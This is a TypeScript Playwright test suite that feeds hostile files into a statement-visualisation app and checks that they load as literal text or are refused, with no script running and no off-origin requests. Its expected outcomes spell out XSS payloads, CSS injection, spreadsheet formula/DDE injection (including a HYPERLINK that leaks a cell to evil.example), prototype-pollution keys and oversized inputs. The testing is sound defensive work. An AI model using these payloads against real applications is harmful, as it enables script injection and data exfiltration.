/**
 * The hostile-input corpus: every case is loaded through the "Load statements"
 * file input, and the test asserts what a user would see. A case either loads
 * (the right number of statements, its hostile text shown as literal text in
 * the tooltip, never as markup) or is refused with a clear message while the
 * demo data stays on screen. For every case: no script runs (the harness fails
 * on dialogs and console errors, CSP violations included; payloads that would
 * set window.__pwned are checked), no request leaves the app's origin, and the
 * page stays usable (a group checkbox still filters).
 *
 * The corpus files are in fixtures/hostile/ (made by generate.mjs there). Cases
 * that would weigh megabytes are generated here as Buffers (see `generated`).
 */
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, test as harness } from './harness';

/** Every request the browser makes, from the page and its worker; all must stay on the app's origin. */
const test = harness.extend<{ requests: string[] }>({
  requests: [
    async ({ context, baseURL }, use) => {
      const requests: string[] = [];
      context.on('request', (request) => requests.push(request.url()));
      await use(requests);
      const origin = new URL(baseURL!).origin;
      expect(
        requests.filter((url) => new URL(url).origin !== origin),
        'requests that left the app origin',
      ).toEqual([]);
    },
    { auto: true },
  ],
});

const count = (page: Page) => page.getByRole('status').filter({ hasText: /statements?$/ });
const chart = (page: Page) => page.getByRole('figure', { name: /Enthusiasm/ });
const marks = (page: Page) => chart(page).locator('circle.dot');
const groupBoxes = (page: Page) => page.getByRole('group', { name: 'Stakeholder groups' }).getByRole('checkbox');
const demoNotice = (page: Page) => page.getByText(/Demo data, illustrative/);
const squash = (text: string) => text.replace(/\s+/g, ' ').trim();
/** A string as a pattern in which any run of white space matches one space: markup may wrap a notice's lines. */
const loosely = (text: string) => new RegExp(text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&').replace(/ /g, '\\s+'));
const statements = (n: number) => new RegExp(`^${n.toLocaleString('en-US')} statements?$`);

type Outcome =
  | {
      loads: number;
      /** The group names the legend shows, in order. */
      groups?: string[];
      /** Strings that must appear, as they are, in some statement's tooltip. */
      literal?: string[];
      /** Notices the user sees beside the chart (any run of white space matches a space). */
      notices?: string[];
      /** How many rows the "rows skipped" list holds, and text one of them must show. */
      skipped?: [number, string | RegExp];
    }
  | { refused: RegExp }
  | { picks: { text: string; group: string }; then: number };

interface Case {
  what: string;
  name: string;
  content: () => Buffer;
  outcome: Outcome;
  /** A bug outside lib/data that this case shows: the test is expected to fail until it is fixed. */
  knownBug?: string;
}

const file = (name: string) => () => readFileSync(new URL(`./fixtures/hostile/${name}`, import.meta.url));

/** Cases read from fixtures/hostile/. */
const corpus: [what: string, name: string, outcome: Outcome][] = [
  [
    'HTML and script in statements, speakers and group names',
    'html-script.csv',
    {
      loads: 7,
      groups: ['Studios', 'Writers', 'Actors', "<script>alert('group')</script>", 'Press', 'Fans'],
      literal: [
        "<script>window.__pwned=1;alert('script')</script> We are thrilled",
        `<img src=x onerror="window.__pwned=2;alert('img')"> terrible news`,
        '<svg onload="window.__pwned=3;alert(\'svg\')"><circle r=9/></svg> worried',
        '<iframe srcdoc="<script>parent.__pwned=4</script>"></iframe> great',
        '<a href="javascript:window.__pwned=5">click me</a> love it',
        '<body onload=window.__pwned=7>',
        "{@html '<img src=x onerror=alert(7)>'} {{constructor.constructor('alert(8)')()}} ${alert(9)}",
        '<b>Exec</b>',
        '<i>Variety</i>',
      ],
    },
  ],
  ['javascript:, data: and vbscript: URLs', 'javascript-urls.csv', { loads: 7, literal: ['javascript:alert(1)'] }],
  [
    'CSS injection in statements and group names',
    'css-injection.csv',
    {
      loads: 8,
      groups: [
        'Studios',
        'Writers',
        'Actors',
        'Press',
        'red;background:url(https://evil.example/group)',
        '#fff}body{display:none}',
        'url(javascript:alert(1))',
      ],
      literal: ['</style><style>body{background:url(https://evil.example/css-bg)}</style> good'],
    },
  ],
  [
    'SVG and MathML injection, in a group name too',
    'svg-injection.json',
    {
      loads: 6,
      groups: ['<svg onload=window.__pwned=3>', 'SVG', 'MathML'],
      literal: ['<svg><foreignObject><img src=https://evil.example/fo onerror=window.__pwned=4></foreignObject></svg>'],
    },
  ],
  [
    'spreadsheet formulas (=HYPERLINK, +cmd, @SUM, -2+3, =DDE)',
    'formulas.csv',
    {
      loads: 7,
      groups: ['Writers', 'Actors', 'Press', 'Studios', '=1+1'],
      literal: [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
      ],
    },
  ],
  [
    '__proto__, constructor and prototype keys in JSON',
    'proto-keys.json',
    { loads: 6, groups: ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'] },
  ],
  [
    '__proto__ and constructor keys in NDJSON',
    'proto-keys.ndjson',
    { loads: 3, groups: ['__proto__', 'constructor', 'toString'], skipped: [1, 'Line 3 has no text (field "text"); skipped.'] },
  ],
  ['columns named __proto__ and constructor', 'proto-columns.csv', { loads: 2, groups: ['__proto__', 'constructor'] }],
  [
    'a quote that never closes, mid-file: that row is skipped, the rows after it load',
    'unterminated-quote.csv',
    {
      loads: 4,
      skipped: [1, 'Row 3: a quoted field is never closed; skipped. Check the quotes there (a quote inside a quoted field is written "").'],
    },
  ],
  [
    'a quote that never closes in the first row: the row after it loads',
    'unterminated-only.csv',
    { loads: 1, groups: ['Actors'], skipped: [1, /^Row 1: a quoted field is never closed; skipped\./] },
  ],
  ['a quote that never closes in the header', 'unterminated-header.csv', { refused: /The header row \(the first line of the file\): a quoted field is never closed/ }],
  ['a quote inside quotes that is not doubled', 'undoubled-quote.csv', { loads: 1, skipped: [1, /Row 1: a quote \(".*not doubled; skipped/] }],
  ['mixed delimiters', 'mixed-delimiters.csv', { loads: 2, skipped: [3, 'Row 2 has no group (column "group"); skipped.'] }],
  ['a semicolon-separated .csv (European Excel)', 'semicolon.csv', { loads: 2, groups: ['Studios', 'Writers'], literal: ['Great news, really'] }],
  ['a tab-separated file named .csv', 'tab-separated.csv', { loads: 2, groups: ['Press', 'Actors'] }],
  ['a NUL byte near the start', 'nul-early.csv', { refused: /This file holds binary data \(a zero byte at position 16\), not text/ }],
  ['a NUL byte after the first kilobyte', 'nul-late.csv', { loads: 2, groups: ['Writers', 'Actors'] }],
  ['an executable (ELF) named .csv', 'elf-binary.csv', { refused: /binary data \(a zero byte at position 7\)/ }],
  [
    'invalid UTF-8 (stray, truncated, overlong, surrogate bytes)',
    'invalid-utf8.csv',
    // Its first byte beyond ASCII is no UTF-8, as in a file Excel saved on Windows: read as Windows-1252.
    { loads: 4, notices: ['The file is not UTF-8: it was read as Windows-1252'] },
  ],
  ['UTF-8 with a broken byte further on', 'utf8-broken-later.csv', { loads: 2, notices: ['1 character in the file was not valid UTF-8 and shows as �'] }],
  ['UTF-16 LE with a byte-order mark', 'utf16le-bom.csv', { loads: 2, literal: ['Café déjà vu ✓ 日本語 is great'] }],
  ['UTF-16 BE with a byte-order mark, TSV', 'utf16be-bom.tsv', { loads: 1, literal: ['Ελληνικά κείμενα are good'] }],
  ['UTF-16 without a byte-order mark', 'utf16le-no-bom.csv', { refused: /looks like UTF-16 text without a byte-order mark/ }],
  [
    'right-to-left, bidi controls and zero-width characters',
    'rtl-zero-width.csv',
    {
      loads: 6,
      groups: ['Social media user', 'Press', 'Actors', 'Act\u200Bors'],
      literal: ['مرحبا هذا رائع great', '\u202Egnp.exe great\u202C', 'zero\u200Bwidth\u200Cnon\u200Djoiner\u2060word'],
    },
  ],
  ['emoji-only statements and groups', 'emoji-only.ndjson', { loads: 5, groups: ['Fans', '🎬', '🏳️‍🌈'], literal: ['🎉🎉🎉', '👨‍👩‍👧‍👦'] }],
  ['duplicate ids', 'duplicate-ids.csv', { loads: 6, literal: ['First with id one', 'Second with id one', 'Third with id one'] }],
  [
    'dates such as 0000-00-00, year 99999 and a script',
    'bad-dates.csv',
    { loads: 8, notices: ['6 dates could not be read and were left empty'], literal: ['2024-03-22', '9999-12-31'] },
  ],
  [
    'numbers, booleans, null, objects and arrays as text in JSON',
    'numbers-as-text.json',
    { loads: 4, groups: ['7', 'false', '0', 'Infinity'], literal: ['12345', '-350'], skipped: [3, 'Statement 4 has no text (field "text"); skipped.'] },
  ],
  ['numbers as text and group in CSV', 'numbers-as-text.csv', { loads: 4, groups: ['0', '1', 'NaN', '-0'], literal: ['1e999'] }],
  ['JSON nested 10,000 levels deep beside a statement', 'deep-nesting.json', { loads: 2, groups: ['Deep'] }],
  ['statements nested one level too deep', 'nested-statements.json', { refused: /must be an array of statements, or an object with a "statements" array/ }],
  ['empty, blank and zero-width group names', 'empty-group.csv', { loads: 1, groups: ['Writers'], skipped: [3, 'Row 4 has no group (column "group"); skipped.'] }],
  ['no row with a group', 'empty-group-only.csv', { refused: /No statements could be loaded from empty-group-only\.csv\. 2 rows were skipped; the first: Row 1 has no group/ }],
  [
    'markup in column names (shown in the column picker)',
    'hostile-headers.csv',
    { picks: { text: '<img src=https://evil.example/h onerror=window.__pwned=1>', group: '<script>window.__pwned=2</script>' }, then: 1 },
  ],
  ['an HTML page saved as .csv', 'html-page.csv', { refused: /html-page\.csv looks like a web page \(HTML\), not a table of statements\./ }],
  ['NDJSON with no JSON line', 'garbage.ndjson', { refused: /No line of the file is a JSON record.*Line 1 is not valid JSON \(unexpected token '<' at column 1\)/ }],
  [
    'NDJSON records with keys first seen late',
    'ndjson-late-keys.ndjson',
    { loads: 3, literal: ['<b>Voice</b>'], skipped: [1, /Line 4 is not valid JSON/] },
  ],
  ['terminal escapes and control characters', 'control-chars.csv', { loads: 3, literal: ['[31mred terminal text'] }],
  ['a 5,200-character group name and a 9,600-character speaker', 'long-values.csv', { loads: 2 }],
  ['CRLF, lone CR and LF in one file', 'line-endings.csv', { loads: 3, groups: ['Writers', 'Actors', 'Press'] }],
  ['a repeated JSON key and a lone surrogate escape', 'json-oddities.json', { loads: 2, literal: ['\uFFFD lone surrogate is great'] }],
  ['JSON cut off mid-string', 'truncated.json', { refused: /not valid JSON: unterminated string at the end of the file/ }],
];

const MB = 1 << 20;
const million = 1_000_000;

/** Cases built here: each would weigh too much as a committed file. */
const generated: Case[] = [
  {
    what: 'a 1 MB single statement',
    name: 'one-megabyte.csv',
    content: () => {
      const sentence = 'Writers fear the studio will replace them; executives love it. <script>window.__pwned=1</script> ';
      const body = sentence.repeat(Math.ceil(MB / sentence.length));
      return Buffer.from(`text,group\n"${body}",Writers\nA short one,Actors\n`);
    },
    outcome: { loads: 2, literal: ['Writers fear the studio will replace them; executives love it. <script>window.__pwned=1</script>'] },
  },
  {
    what: 'a million-column row',
    name: 'million-columns.csv',
    content: () => Buffer.from(`text,group\nA row with a million columns,Writers${','.repeat(million - 2)}\n`),
    outcome: { loads: 1, literal: ['A row with a million columns'] },
  },
  {
    what: 'a million-column header with no text or group',
    name: 'million-headers.csv',
    content: () => Buffer.from(`${Array.from({ length: million }, (_, i) => `c${i}`).join(',')}\nx,y\n`),
    outcome: { refused: /None of the 1,000,000 columns could be recognised as the statement text or the stakeholder group \(c0, c1/ },
  },
  {
    what: '10,000 distinct groups',
    name: 'ten-thousand-groups.csv',
    content: () =>
      Buffer.from(`text,group\n${Array.from({ length: 10_000 }, (_, i) => `Statement ${i} is good,Group ${i}`).join('\n')}\n`),
    outcome: { loads: 10_000 },
  },
  {
    what: 'JSON nested 500,000 levels deep, never closed',
    name: 'deep-unclosed.json',
    content: () => Buffer.from(`[{"text":"a","group":"b","x":${'['.repeat(500_000)}`),
    outcome: { refused: /not valid JSON: .* at the end of the file/ },
  },
  {
    what: 'JSON nested 100,000 levels deep, closed',
    name: 'deep-closed.json',
    content: () => Buffer.from(`[{"text":"Deep beside me","group":"Deep","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}]`),
    outcome: { loads: 1, literal: ['Deep beside me'] },
  },
  {
    what: 'a quote that runs on for 20 MB: its row is skipped, the rows after it load',
    name: 'runaway-quote.csv',
    content: () => Buffer.from(`text,group\nFine,Writers\n"${`${'more text '.repeat(2000)},Press\n`.repeat(1050)}`),
    outcome: {
      loads: 1050,
      skipped: [1, 'Row 2: a quoted field runs on for more than 16 MB, so a closing quote is probably missing; skipped. Check the quotes there.'],
    },
  },
  {
    what: 'markup in the file name',
    name: '<img src=x onerror=alert(1)>.csv',
    content: () => Buffer.from('text,group\nA statement in a hostile file name,Writers\n'),
    outcome: { loads: 1 },
  },
];

const cases: Case[] = [...corpus.map(([what, name, outcome]) => ({ what, name, content: file(name), outcome })), ...generated];

async function openDemo(page: Page): Promise<string> {
  await page.goto('/');
  await expect(marks(page).first()).toBeVisible();
  await expect(demoNotice(page)).toBeVisible();
  return (await count(page).textContent())!;
}

/** Nothing in the page came from the file as markup, and no payload ran. */
async function expectNothingRan(page: Page) {
  const found = await page.evaluate(() => {
    const w = window as unknown as Record<string, unknown>;
    const links = [...document.querySelectorAll('a[href]')].filter(
      (a) => !/^https?:$/.test(new URL((a as HTMLAnchorElement).href, location.href).protocol),
    );
    return {
      pwned: [w.__pwned, (window.top as unknown as Record<string, unknown>).__pwned],
      polluted: [({} as Record<string, unknown>).polluted, Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')],
      inlineScripts: document.querySelectorAll('script:not([src])').length,
      bodyScripts: document.querySelectorAll('body script').length,
      markup: document.querySelectorAll('main img, main iframe, main object, main embed, main foreignObject, main math, body style').length,
      handlers: document.querySelectorAll('[onerror], [onload], [onclick], [ontoggle], [onbegin], [onmouseover], [onfocus]').length,
      styledUrls: document.querySelectorAll('[style*="url(" i], [style*="expression" i]').length,
      badLinks: links.length,
    };
  });
  expect(found).toEqual({
    pwned: [undefined, undefined],
    polluted: [undefined, false],
    inlineScripts: 0,
    bodyScripts: 0,
    markup: 0,
    handlers: 0,
    styledUrls: 0,
    badLinks: 0,
  });
}

/** The page still works: the first group's checkbox hides its statements and shows them again. */
async function expectUsable(page: Page) {
  const before = (await count(page).textContent())!;
  const box = groupBoxes(page).first();
  await box.uncheck();
  await expect(count(page)).not.toHaveText(before);
  await box.check();
  await expect(count(page)).toHaveText(before);
}

/** Walks the marks with the keyboard (or focuses the canvas) and returns the text of each tooltip. */
async function tooltips(page: Page, n: number): Promise<string[]> {
  const svg = (await marks(page).count()) > 0;
  if (svg) await marks(page).first().focus();
  else await chart(page).locator('canvas').first().focus();
  const texts: string[] = [];
  for (let i = 0; i < Math.min(n, 12); i++) {
    const tip = page.getByRole('tooltip');
    await expect(tip).toBeVisible();
    texts.push(squash((await tip.textContent()) ?? ''));
    await page.keyboard.press('ArrowRight');
  }
  return texts;
}

test.describe('hostile input', () => {
  for (const c of cases) {
    test(`${c.what} (${c.name})`, async ({ page }) => {
      test.fail(!!c.knownBug, c.knownBug);
      // The largest generated files take tens of seconds on a busy two-core machine.
      test.slow(c.name === 'runaway-quote.csv' || c.name === 'ten-thousand-groups.csv');
      const demo = await openDemo(page);
      await page.getByLabel('Load statements').setInputFiles({ name: c.name, mimeType: 'application/octet-stream', buffer: c.content() });
      const o = c.outcome;

      if ('refused' in o) {
        const alert = page.getByRole('alert');
        await expect(alert).toContainText(o.refused);
        await expect(alert).toContainText('The statements on screen are unchanged.');
        await expect(count(page)).toHaveText(demo);
        await expect(demoNotice(page)).toBeVisible();
        await expect(marks(page).first()).toBeVisible();
      } else if ('picks' in o) {
        const dialog = page.getByRole('dialog', { name: 'Which columns hold the statements?' });
        await expect(dialog).toBeVisible();
        await expect(dialog.getByRole('table')).toContainText(o.picks.text);
        await expect(dialog.getByRole('table')).toContainText(o.picks.group);
        await expectNothingRan(page);
        await dialog.getByLabel('Text column').selectOption(o.picks.text);
        await dialog.getByLabel('Group column').selectOption(o.picks.group);
        await dialog.getByRole('button', { name: 'Load with these columns' }).click();
        await expect(count(page)).toHaveText(statements(o.then));
        await expect(page.getByRole('group', { name: 'Stakeholder groups' })).toContainText('Writers');
      } else {
        await expect(count(page)).toHaveText(statements(o.loads));
        await expect(page.getByRole('alert')).toHaveCount(0);
        await expect(demoNotice(page)).toBeHidden();
        await expect(page.getByText(c.name, { exact: true })).toBeVisible();
        await expect(groupBoxes(page).first()).toBeVisible();
        if (o.groups) {
          const names = await page.locator('.group-filter .name').allTextContents();
          expect(names).toEqual(o.groups);
        }
        if (o.loads < 2000) await expect(marks(page)).toHaveCount(o.loads);
        const tips = await tooltips(page, o.loads);
        for (const text of o.literal ?? []) {
          expect(tips.some((tip) => tip.includes(squash(text))), `a tooltip shows ${JSON.stringify(text)}`).toBe(true);
        }
        for (const notice of o.notices ?? []) await expect(page.getByText(loosely(notice))).toBeVisible();
        if (o.skipped) {
          const [n, line] = o.skipped;
          const details = page.locator('details', { hasText: 'skipped' });
          await expect(details.locator('summary')).toHaveText(`${n} ${n === 1 ? 'row' : 'rows'} skipped`);
          await details.locator('summary').click();
          await expect(details.getByText(line)).toBeVisible();
        }
      }
      await expectNothingRan(page);
      await expectUsable(page);
    });
  }
});
